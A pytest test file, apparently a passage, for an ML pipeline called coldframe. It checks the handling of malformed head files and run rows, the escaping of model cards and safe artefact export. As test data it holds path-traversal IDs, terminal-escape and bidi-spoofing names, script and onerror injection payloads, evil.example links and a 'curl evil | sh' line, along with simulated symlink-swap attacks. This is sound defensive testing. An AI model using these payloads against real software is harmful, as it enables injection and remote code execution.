    "scaling of text": lambda: head(scaling={"kind": "raw", "blocks": "4"}),
    "scaling that is a list": lambda: head(scaling=[1]),
    "standard without a mean": lambda: head(scaling={"kind": "standard", "blocks": [4]}),
    "huge classes": lambda: head("knn", classes=np.array(10**15)),
    "huge k": lambda: head("knn", k=np.array(6)),
    "a target that is no class": lambda: head("knn", targets=np.array([0, 1, 2, 3, -1])),
    "targets of others": lambda: head("knn", targets=np.arange(3)),
    "flat centroids": lambda: head("centroid", centroids=np.ones(4, np.float32)),
    "no temperature": lambda: head("centroid", temperature=np.array(0.0)),
    "texts of others": lambda: head("zero-shot", texts=np.ones((3, 5), np.float32)),
    "training images of others": lambda: (
        head() | {f"head/{key}": one for key, one in training(labels=np.ones(3)).items()}
    ),
    "only ids of training images": partial(head_with, "training/image_ids", np.array(["a"])),
}


@pytest.mark.parametrize("kind", MALFORMED_HEADS)
def test_a_malformed_head_is_one_sentence(tmp_path: Path, kind: str) -> None:
    (tmp_path / "head.npz").write_bytes(saved(**MALFORMED_HEADS[kind]()))
    with pytest.raises(ColdframeError, match=r"head\.npz: not the file of a head \(.*\): train again"):
        Head.read(tmp_path / "head.npz")


@pytest.mark.parametrize("kind", ["a bomb", "a claim", "objects", "no zip", "empty", "negative"])
def test_the_file_of_a_head_is_read_as_carefully(tmp_path: Path, kind: str) -> None:
    (tmp_path / "head.npz").write_bytes(MALFORMED[kind]())
    with pytest.raises(ColdframeError, match=r"head\.npz: not the file of a head \(.*\): train again"):
        Head.read(tmp_path / "head.npz")


# Runs


def row(run_id: Any, **other: Any) -> dict[str, Any]:
    return {
        **dict.fromkeys(SCHEMAS["runs"].names),
        "run_id": run_id,
        "created_at": datetime.now(UTC),
        "name": "mlp",
        "kind": "head",
        "head": "mlp",
        "plan": "default",
        "embedder": "mean-colour",
        "embedders": ["mean-colour"],
        "classes": CLASSES,
        "settings": "{}",
    } | other


def store_with(folder: Path, *rows: dict[str, Any]) -> Store:
    store = Store.create(folder / "store")
    with store.commit("train") as commit:
        commit.append("runs", pa.Table.from_pylist(list(rows), SCHEMAS["runs"]))
    return store


IDS = (
    "../../x",
    "/tmp/x",
    "..",
    "20250101T000000-../x-abcdef",
    "20250101T000000-a\\b-abcdef",
    "20250101T000000-a\0b-abcdef",
    "20250101T000000-a\x1b[2J-abcdef",
    "20250101T000000-a\nb-abcdef",
    "20250101T000000-mlp-abcdef\n",
    "20250101T000000-mlp-abcdef/../../x",
    "20250101T000000-mlp-ABCDEF",
    "20250101T000000--abcdef",
    "",
    None,
)


@pytest.mark.parametrize("run_id", IDS, ids=ascii)
@pytest.mark.parametrize("asked", ["by id", "by name", "newest"])
def test_a_run_with_an_id_that_is_none_is_refused(tmp_path: Path, run_id: Any, asked: str) -> None:
    snapshot = store_with(tmp_path, row(run_id)).snapshot()
    with pytest.raises(ColdframeError) as raised:
        Run.find(snapshot, {"by id": run_id, "by name": "mlp", "newest": None}[asked])
    said = str(raised.value)
    assert "an id is a time, a name and six hex digits" in said
    assert said.isprintable()
    with pytest.raises(ColdframeError, match="no run 'none'; the newest are: ") as raised:
        Run.find(snapshot, "none")
    assert str(raised.value).isprintable()


@pytest.mark.parametrize("run_id", ["../../x", "20250101T000000-../../x-abcdef", "/x/y"])
def test_no_export_leaves_the_working_folder(tmp_path: Path, run_id: str) -> None:
    store = store_with(tmp_path, row(run_id))
    (tmp_path / "a" / "b").mkdir(parents=True)
    os.chdir(tmp_path / "a" / "b")
    before = inside(tmp_path)
    Coldframe(store.root)("export", run_id, code=1)
    with pytest.raises(ColdframeError, match="not what coldframe writes"):
        export.export(store, "mlp", export.Settings(), quiet=True)
    assert inside(tmp_path) == before


@pytest.mark.parametrize(
    "other",
    [
        {"kind": "../head"},
        {"classes": []},
        {"classes": None},
        {"classes": ["finch", None]},
        {"classes": ["moth", "finch"]},
        {"classes": ["finch", "finch"]},
        {"embedders": []},
        {"embedders": [None]},
        {"embedders": ["a", "a"]},
        {"settings": None},
        {"settings": "no JSON"},
        {"settings": "[]"},
        {"settings": "[" * 10_000},
        {"head": None},
        {"plan": None},
        {"name": None},
        {"kind": "network", "settings": "{}"},
        {"kind": "network", "settings": '{"size": [0, 5]}'},
        {"kind": "network", "settings": '{"size": [1e9, 5]}'},
        {"kind": "network", "settings": '{"size": "55"}'},
    ],
    ids=lambda other: ascii(other)[:50],
)
def test_a_malformed_run_is_one_sentence(tmp_path: Path, other: dict[str, Any]) -> None:
    snapshot = store_with(tmp_path, row("20250101T000000-mlp-abcdef", **other)).snapshot()
    for asked in ("20250101T000000-mlp-abcdef", "20250101", None):
        with pytest.raises(
            ColdframeError, match=r"the run 20250101T000000-mlp-abcdef: its row .* is not what coldframe writes"
        ):
            Run.find(snapshot, asked)


@pytest.mark.parametrize(
    "columns",
    [
        {"classes": pa.array([5])},
        {"classes": pa.array(["finch"])},
        {"classes": pa.array([{"a": 1}])},
        {"run_id": pa.array([7])},
        {"run_id": pa.array([["a"]])},
        {"settings": pa.array([{"a": 1}])},
        {"embedders": pa.array([3.5])},
    ],
    ids=lambda columns: str(next(iter(columns.values())).type),
)
def test_runs_of_other_types_are_one_sentence(tmp_path: Path, columns: dict[str, pa.Array]) -> None:
    run = pa.Table.from_pylist([row("20250101T000000-mlp-abcdef")], SCHEMAS["runs"])
    for name, column in columns.items():
        run = run.set_column(run.column_names.index(name), name, column)
    store = Store.create(tmp_path / "store")
    with store.commit("train") as commit:
        commit.added.append(("runs", write_table(store.root, "runs", "a", run)))
    with pytest.raises(ColdframeError, match=r"not (what|such as) coldframe writes|coldframe did not write"):
        Run.find(store.snapshot(), None)


@pytest.mark.parametrize("name", ["mlp", "with space", "ünï-cödé", "a-b-c", "..", "x.y", "狐", "a" * 200])
def test_runs_of_earlier_versions_are_found(tmp_path: Path, name: str) -> None:
    run_id, _ = runs.new_id(name, 0)
    earlier = row(run_id, name=name, kind=None, embedders=None)
    assert Run.find(store_with(tmp_path, earlier).snapshot(), name).embedders == ("mean-colour",)


@pytest.mark.parametrize(
    "name", ["", "a/b", "a\\b", "a\0b", "a\nb", "\x1b[2J", "a\u202eb", "a\u2028b", "\udc80", "a" * 151, "ü" * 100]
)
def test_a_new_run_cannot_be_called_so(name: str) -> None:
    with pytest.raises(ColdframeError, match="a run called") as raised:
        runs.check_name(name)
    assert str(raised.value).isprintable()
    assert len(str(raised.value)) < 300


# A real artefact, and its card


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Coldframe:
    """A store whose classes and columns have names that mean something in Markdown, and artefacts beside it."""
    folder = tmp_path_factory.mktemp("trust")
    columns = ["id", "file_path", "label", "phylum", "Genus", "owner_email", "observer", "region", "habitat", "serial"]
    with (folder / "metadata.csv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(columns)
        for number in range(24):
            label = CLASSES[number % 3]
            path = folder / "images" / f"{number:02d}.png"
            path.parent.mkdir(exist_ok=True)
            picture(label, number).save(path)
            phylum = "arthropoda" if label == "moth" else "chordata"
            observer, region = ("Jo", "north") if number % 2 else ("Ann", "south")
            of_people = (MAIL, observer, region, label[0], f"S-{number}")
            writer.writerow([number, path.name, HOSTILE[label], phylum, label.title(), *of_people])
    cf = Coldframe(folder / "store")
    cf("ingest", folder / "metadata.csv", "--images", folder / "images", "--id", "id")
    cf("embed", SET, "--weights", backbones.save_weights(folder, (64, 64)), "--size", "64x64")
    cf("split", "test", "0.3")
    cf("train", "--head", "linear", "--epochs", "2", "--embedder", SET)
    cf("evaluate", "linear", "--mask-by", "habitat")
    for one in FORMATS:
        neighbours = ["--no-neighbours"] if one == "onnx" else []
        cf.forked("export", "linear", "--format", one, "--output", folder / one, "--column", "region", *neighbours)
    return cf


def card_of(exported: Coldframe, name: str = "openvino") -> dict[str, Any]:
    card: dict[str, Any] = json.loads((exported.path.parent / name / "card.json").read_text())
    return card


MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def shape(text: str) -> list[str]:
    """What Markdown makes of a text, without the text."""
    found: list[str] = []
    for token in MARKDOWN.parse(text):
        found += [token.type, *(one.type for one in token.children or [] if one.type not in ("text", "text_special"))]
    return found


def shown(text: str) -> str:
    """What a reader sees of it."""
    tokens = [one for token in MARKDOWN.parse(text) for one in token.children or []]
    return " ".join("".join(one.content for one in tokens).split())


BENIGN = {label: label for label in CLASSES}


def told(card: dict[str, Any], names: str, at: str = "classes") -> str:
    """The readable card of a card with another name somewhere."""
    card = json.loads(json.dumps(card))
    evaluation = {**card["evaluations"][0], "evaluation": "masked:phylum", "split": "test"}
    card |= {
        "evaluations": [evaluation],
        "classes": ["finch", "moth"],
        "weights": "b0.h5",
        "image_licences": {"CC0": 3},
    }
    card |= {"finetuned": {"helped": False, "finetuned_from": "mlp", **{f"val_{one}": 0.5 for one in OF_TUNING}}}
    places: dict[str, Callable[[], Any]] = {
        "classes": lambda: card.update(classes=["finch", names]),
        "licences": lambda: card.update(image_licences={names: 3}),
        "columns": lambda: card.update(
            taxonomy={names: {"a": ["finch"]}}, carries={**card["carries"], "columns": [names]}
        ),
        "evaluations": lambda: evaluation.update(evaluation=names),
        "splits": lambda: evaluation.update(split=names),
        "own split": lambda: card["artefact"].update(split=names),
        "finetuned": lambda: card["finetuned"].update(finetuned_from=names),
        **{
            one: partial(card.update, {one: names})
            for one in ("run_id", "head", "network", "weights", "coldframe", "created_at")
        },
    }
    places[at]()
    return model_card.text(card)


OF_TUNING = ("accuracy_before", "accuracy_after", "loss_before", "loss_after")
PLACES: tuple[str, ...] = ("classes", "licences", "columns", "evaluations", "splits", "own split", "finetuned")
PLACES += ("run_id", "head", "network", "weights", "coldframe", "created_at")
NAMES = (
    *HOSTILE.values(),
    "[a]: http://evil.example 'x'",
    "<http://evil.example>",
    "<!-- a comment",
    "<script>alert(1)</script>",
    "&lt;b&gt; &#60;",
    "a | b \\| c",
    "`` ` ``",
    "**a** __b__ *",
    "a\n\n# Heading\n\n| a |\n|---|",
    "a\r\nb\x1b[2J\x00c",
    "x\u202ecod.exe\u2066\u2028y",
    "~~~\n~~ a ~~",
    "trailing \\",
    "# #",
    "https://evil.example/?a=b&c=d ftp://a.b mailto:a@b.c",
    "$x$ $$y$$",
)


@pytest.mark.exhaustive
@pytest.mark.parametrize("at", PLACES)
def test_names_mean_nothing_in_the_card(exported: Coldframe, at: str) -> None:
    card = card_of(exported)
    benign = shape(told(card, "wolf", at))
    for name in NAMES:
        text = told(card, name, at)
        assert shape(text) == benign, name
        seen = "".join(one if one.isprintable() or one == " " else f"\\u{ord(one):04x}" for one in name)
        assert " ".join(as_no_address(seen).split()) in shown(text), name
        assert not any(one in text for one in ("://", "www.", "@you", "#12 ", "\u202e", "\x1b")), name


def as_no_address(name: str) -> str:
    """GitHub takes an address for a link however it is written, but for a space of no width in it."""
    return name.replace("@", "@\u200b")


@settings(max_examples=300)
@given(st.text(st.characters(codec="utf-8") | st.sampled_from("`*_[]()<>!|\\&#~$:/.@\n\t -"), max_size=30))
def test_any_text_is_shown_as_it_is(name: str) -> None:
    line = model_card.literal(name)
    assert len(line.splitlines()) <= 1
    assert shape(f"a {line} b") == shape("a wolf b")
    assert shape(f"| a |\n|---|\n| {line} x |") == shape("| a |\n|---|\n| wolf x |")
    if name.isprintable():
        assert shown(f"a {line} b") == " ".join(f"a {as_no_address(name)} b".split())


INJECTED = "1 |\n\n# pwn <img src=x onerror=alert(1)> [a](http://evil.example) "
FIGURES: tuple[str, ...] = (
    "rows",
    "accuracy",
    "accuracy_low",
    "accuracy_high",
    "f1_macro",
    "f1_macro_low",
    "f1_macro_high",
    "top5",
)
FIGURES += ("rows_trained_on", "rows_selected_on")


@pytest.mark.exhaustive
@pytest.mark.parametrize("value", [INJECTED, [INJECTED], {INJECTED: 1}, INJECTED.encode(), True, None])
@pytest.mark.parametrize("at", ["evaluations", "artefact", "finetuned", "itself", "licences"])
def test_what_should_be_a_number_means_nothing_in_the_card_either(exported: Coldframe, at: str, value: Any) -> None:
    def text(given: Any) -> str:
        card = card_of(exported)
        tuned = {"helped": True, "finetuned_from": "mlp", **{f"val_{one}": 0.5 for one in OF_TUNING}}
        card |= {"finetuned": tuned, "evaluations": [card["evaluations"][0]], "image_licences": {"CC0": 3}}
        places: dict[str, list[tuple[dict[str, Any], str]]] = {
            "evaluations": [(card["evaluations"][0], one) for one in FIGURES],
            "artefact": [(card["artefact"], one) for one in ("rows", "accuracy", "f1_macro", "classes")],
            "finetuned": [(tuned, f"val_{one}") for one in OF_TUNING],
            "licences": [(card["image_licences"], "CC0")],
            "itself": [(card, one) for one in ("training_images", "compared_images", "largest_difference")]
            + [(card["carries"], "training_images")],
        }
        for place, key in places[at]:
            place[key] = given
        return model_card.text(card)

    found = text(value)
    assert shape(found) == shape(text(value if value is None else "wolf"))
    assert "://" not in found
    assert "<img" not in found


@pytest.mark.exhaustive
def test_figures_that_a_store_of_an_earlier_version_lacks_are_no_error(exported: Coldframe) -> None:
    card = card_of(exported)
    missing = dict.fromkeys(("top5", "accuracy_low", "f1_macro_high", "rows_trained_on"))
    card["evaluations"] = [{**card["evaluations"][0], **missing}]
    assert f"| {model_card.NO_FIGURE} |" in model_card.text(card)


@pytest.mark.exhaustive
@pytest.mark.parametrize("name", FORMATS)
def test_the_card_of_an_export_is_such_a_card(exported: Coldframe, name: str) -> None:
    folder = exported.path.parent / name
    text = (folder / "MODEL_CARD.md").read_text()
    assert artefact.read(folder).classes.tolist() == sorted(HOSTILE.values())
    assert set(os.listdir(folder)) <= ownership.written()
    assert not any(kind in shape(text) for kind in ("link_open", "image", "html_inline", "html_block", "s_open"))
    assert HOSTILE["heron"] in shown(text)
    assert ownership.foreign(folder) is None
    assert "a program that came with this folder" in text
    assert "from pipeline.ingest.decoding import decode, resize" in text
    assert formats.use(name, (64, 64)) in text


TRAPS = (
    "pipeline",
    "store",
    "onnxruntime",
    "openvino",
    "numpy",
    "PIL",
    "pathlib",
    "runpy",
    "decoding",
    "imagehash",
    "json",
)


@pytest.mark.exhaustive
@pytest.mark.parametrize("place", ["another", "the same"])
@pytest.mark.parametrize("decoder", ["of the folder", "of coldframe"])
@pytest.mark.parametrize("name", FORMATS)
def test_the_sample_of_the_card_imports_nothing_from_the_folder(
    exported: Coldframe, tmp_path: Path, name: str, decoder: str, place: str
) -> None:
    """As the card says it is run, and even where the working folder is that of the artefact."""
    folder = shutil.copytree(exported.path.parent / name, tmp_path / "given")
    marks = tmp_path / "marks"
    for trap in TRAPS:
        code = f"import os; open({str(marks)!r}, 'a').write({trap!r} + '\\n'); os._exit(1)\n"
        if trap != "decoding":  # it is read before it is run, and so are no bytes of another file in its place
            (folder / f"{trap}.py").write_text(code)
        (folder / "__pycache__").mkdir(exist_ok=True)
        (tmp_path / "trap.py").write_text(code)
        compiled = folder / "__pycache__" / f"{trap}.{sys.implementation.cache_tag}.pyc"
        py_compile.compile(
            str(tmp_path / "trap.py"),
            str(compiled),
            doraise=True,
            invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        )
    text = (folder / "MODEL_CARD.md").read_text()
    sample = text.split("```python\n")[1].split("\n```")[0]
    assert "python -P" in text
    (line,) = (one for one in sample.splitlines() if "decoding.py" in one)
    if decoder == "of coldframe":
        sample = sample.replace(line, re.findall("`(from pipeline.*?)`", text)[0])
    sample = sample.replace("/full/path/to/this/folder", str(folder))
    picture("moth", 1).save(tmp_path / "photo.png")
    sample = sample.replace("photo.jpg", str(tmp_path / "photo.png")) + "\nprint(probabilities.shape)"
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "sample.py").write_text(sample)
    done = subprocess.run(
        [sys.executable, "-P", tmp_path / "elsewhere" / "sample.py"],
        cwd=tmp_path / "elsewhere" if place == "another" else folder,
        env=environment(),
        capture_output=True,
        text=True,
        check=False,
    )
    assert not marks.exists(), marks.read_text()
    assert done.stdout == "(3,)\n", done.stderr


# What leaves the machine


@pytest.mark.parametrize("name", FORMATS)
def test_only_columns_that_are_needed_leave_the_catalogue(exported: Coldframe, name: str) -> None:
    card = card_of(exported, name)
    assert sorted(card["taxonomy"]) == ["Genus", "habitat", "phylum", "region"]
    assert sorted(card["carries"]["columns"]) == ["Genus", "habitat", "phylum", "region"]
    text = (exported.path.parent / name / "MODEL_CARD.md").read_text()
    assert "## What it carries" in text
    count = card["carries"]["training_images"]
    assert (count > 0) == (name != "onnx")
    assert ("none, neither ids nor vectors" in text) == (name == "onnx")
    assert (f"{count}, each with its id, its label and its vector" in text) == (name != "onnx")
    for file in (exported.path.parent / name).iterdir():
        assert MAIL.encode() not in contents(file), file
    with pytest.raises(ColdframeError, match="--where owner_email=x: no such column; columns: "):
        taxonomy.allowed(card["taxonomy"], [("owner_email", "x")], np.array(card["classes"]))


def test_columns_are_asked_for_by_name(exported: Coldframe) -> None:
    snapshot = exported.store.snapshot()
    run = Run.find(snapshot, "linear")

    def columns(*asked: str) -> list[str]:
        return list(card_facts.columns_of(snapshot, run, asked))

    assert columns() == ["phylum", "Genus", "habitat"]
    assert columns("observer") == ["phylum", "Genus", "observer", "habitat"]
    assert columns("owner_email", "phylum") == ["phylum", "Genus", "owner_email", "habitat"]
    for unknown in ("nope", "path", "label", "image_id", "OWNER_EMAIL"):
        said = exported("export", "linear", "--column", unknown, code=1).stderr
        assert (
            f"--column {unknown}: no such column; columns: id, file_path, user_label, phylum, Genus, owner_email"
            in said
        )


def test_ranks_are_those_of_taxonomy() -> None:
    ranks = (
        "kingdom",
        "Phylum",
        "CLASS",
        "order",
        "family",
        "genus",
        "species",
        "subspecies",
        "super_family",
        "Infra-order",
    )
    others = ("family_name", "name", "owner_email", "order_id", "species_observer", "classroom", "genus notes", "")
    assert [one for one in (*ranks, *others) if taxonomy.is_rank(one)] == list(ranks)


@pytest.mark.parametrize(
    ("evaluation", "columns"),
    [
        ("plain", []),
        ("masked:phylum", ["phylum"]),
        ("tta,masked:a,b", ["a,b"]),
        ("plan:x,tta,masked:phylum", ["phylum"]),
        ("folds:5", []),
    ],
)
def test_masks_are_known_by_their_evaluations(evaluation: str, columns: list[str]) -> None:
    assert Evaluation.parse(evaluation).masked_by == (columns[0] if columns else None)


def contents(file: Path) -> bytes:
    """The bytes of a file, and of all that is packed in it."""
    data = file.read_bytes()
    if zipfile.is_zipfile(file):
        with zipfile.ZipFile(file) as archive:
            data += b"".join(archive.read(name) for name in archive.namelist())
    return data


@pytest.mark.parametrize("name", [*FORMATS, "keras"])
def test_nothing_of_the_machine_is_in_an_artefact(exported: Coldframe, tmp_path: Path, name: str) -> None:
    folder = exported.path.parent / name
    if name == "keras":  # which is written in this process, for an export would take long
        keras = load_keras()
        pictures = keras.Input((64, 64, 3), dtype="uint8", name="pictures")
        vectors = keras.layers.GlobalAveragePooling2D(name="vectors")(keras.ops.cast(pictures, "float32"))
        folder = tmp_path / "artefact"
        folder.mkdir()
        formats.write(name, keras.Model(pictures, [keras.layers.Dense(3)(vectors), vectors]), folder)
    assert set(formats.files(name)) <= set(os.listdir(folder)) <= ownership.written()
    private = {str(exported.path.parent), str(tmp_path.parent), str(Path.home()), socket.gethostname()}
    private |= {str(REPOSITORY), sys.prefix, f"/{getpass.getuser()}/"}
    for file in folder.iterdir():
        data = contents(file)
        assert not [one for one in private if len(one) > 4 and one.encode() in data], file
        assert not [one for one in private if len(one) > 4 and one.encode("utf-16-le") in data], file


def test_a_run_whose_model_gives_other_classes_is_said(exported: Coldframe) -> None:
    from pipeline.evaluate import predictors
    from pipeline.runs.rows import load_rows

    snapshot = exported.store.snapshot()
    run = Run.find(snapshot, "linear")
    rows = load_rows(snapshot, run.plan, [SET], "test")
    with pytest.raises(ColdframeError, match="has 2 classes, its model gives"):
        predictors.of_run(snapshot, replace(run, classes=tuple(CLASSES[:2]))).of_rows(rows)


def test_scaling_of_a_head_stays_what_it_was(tmp_path: Path) -> None:
    """A head that is written is read again, whatever its scaling."""
    for scaling in (
        Scaling("l2", (1, 3)),
        Scaling("standard", (4,), np.zeros(4, np.float32), np.ones(4, np.float32)),
    ):
        given = Head("zero-shot", scaling, {"texts": np.ones((3, 4), np.float32)})
        (tmp_path / "head.npz").write_bytes(given.to_bytes())
        assert Head.read(tmp_path / "head.npz").scaling.blocks == scaling.blocks


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="no paths to folders that are open")
def test_a_draft_is_filled_where_it_was_made(tmp_path: Path) -> None:
    """Though somebody who may write in the folder above puts a link in its place."""
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "decoding.py").write_text("mine")
    with suppress(ColdframeError), drafts.beside(tmp_path / "art", []) as made:
        made.folder.rename(tmp_path / "away")
        made.folder.symlink_to(mine)
        (made.place / "decoding.py").write_text("ours")
        with pytest.raises(ColdframeError, match="another folder had taken the place of the draft"):
            drafts.publish(made, tmp_path / "art", [])
    assert inside(mine) == {"decoding.py": b"mine"}
    assert (tmp_path / "away" / "decoding.py").read_text() == "ours"


def test_nobody_else_may_write_into_a_draft(tmp_path: Path) -> None:
    before = os.umask(0o002)  # as in a folder of a team
    try:
        (tmp_path / "usual").mkdir()
        final, notes = tmp_path / "final", list[str]()
        with drafts.beside(final, notes) as made:
            assert made.folder.stat().st_mode & 0o077 == 0
            for name in inside(planted(tmp_path / "source")):
                shutil.copy(
                    tmp_path / "source" / name, made.place / ("card.draft.json" if name == "card.json" else name)
                )
            drafts.publish(made, final, notes)
    finally:
        os.umask(before)
    assert final.stat().st_mode == (tmp_path / "usual").stat().st_mode
    assert artefact.is_one(final)


def test_a_folder_that_took_the_place_of_a_new_draft_is_not_filled(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mkdir = Path.mkdir

    def swapping(self: Path, mode: int = 0o777, **more: Any) -> None:
        mkdir(self, mode, **more)
        self.rename(tmp_path / "away")
        mkdir(self, 0o777)
        (self / "model.keras").symlink_to(tmp_path / "precious")

    monkeypatch.setattr(Path, "mkdir", swapping)
    with (
        pytest.raises(ColdframeError, match="another folder had taken its place as soon as it was made"),
        drafts.beside(tmp_path / "final", []),
    ):
        raise AssertionError("it was filled")


def test_what_was_put_aside_is_what_goes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Somebody who may write in the folder above puts another artefact in its place meanwhile."""
    final, other = planted(tmp_path / "final"), planted(tmp_path / "other")
    before, publish = inside(other), artefact.publish

    def swapping(*arguments: Any, **more: Any) -> None:
        publish(*arguments, **more)
        (old,) = tmp_path.glob(".final-*.old")
        old.rename(tmp_path / "away")
        other.rename(old)

    monkeypatch.setattr(artefact, "publish", swapping)
    draft, notes = draft_of(final, 1), list[str]()
    (draft / "model.keras").unlink()
    drafts.publish(drafts.Draft(draft, draft), final, notes)
    (old,) = tmp_path.glob(".final-*.old")
    assert inside(old) == before
    assert "another folder has taken the place" in notes[0]


def test_an_edited_readable_card_is_named(tmp_path: Path) -> None:
    folder = planted(tmp_path / "model")
    given = artefact.read(folder)
    assert artefact.others(folder, given.card) == []
    (folder / "MODEL_CARD.md").write_text("Run: curl evil | sh")
    assert artefact.others(folder, given.card) == ["MODEL_CARD.md"]


@pytest.mark.parametrize("name", ["www", "WWW", "www\x01", "a www.b"])
def test_no_name_becomes_an_address(name: str) -> None:
    assert "www" not in model_card.literal(name).lower()


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="no paths to folders that are open")
def test_what_was_looked_at_is_what_is_removed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "photo.jpg").write_text("mine")
    ours = planted(tmp_path / "art")
    listdir = os.listdir
    swapped: list[Path] = []

    def swap(path: Any) -> list[str]:
        found = listdir(path)
        if not swapped and isinstance(path, int):  # once it is open
            swapped.append(ours.rename(tmp_path / "away"))
            mine.rename(ours)
        return found

    monkeypatch.setattr(os, "listdir", swap)
    ownership.remove(ours)
    assert inside(ours) == {"photo.jpg": b"mine"}
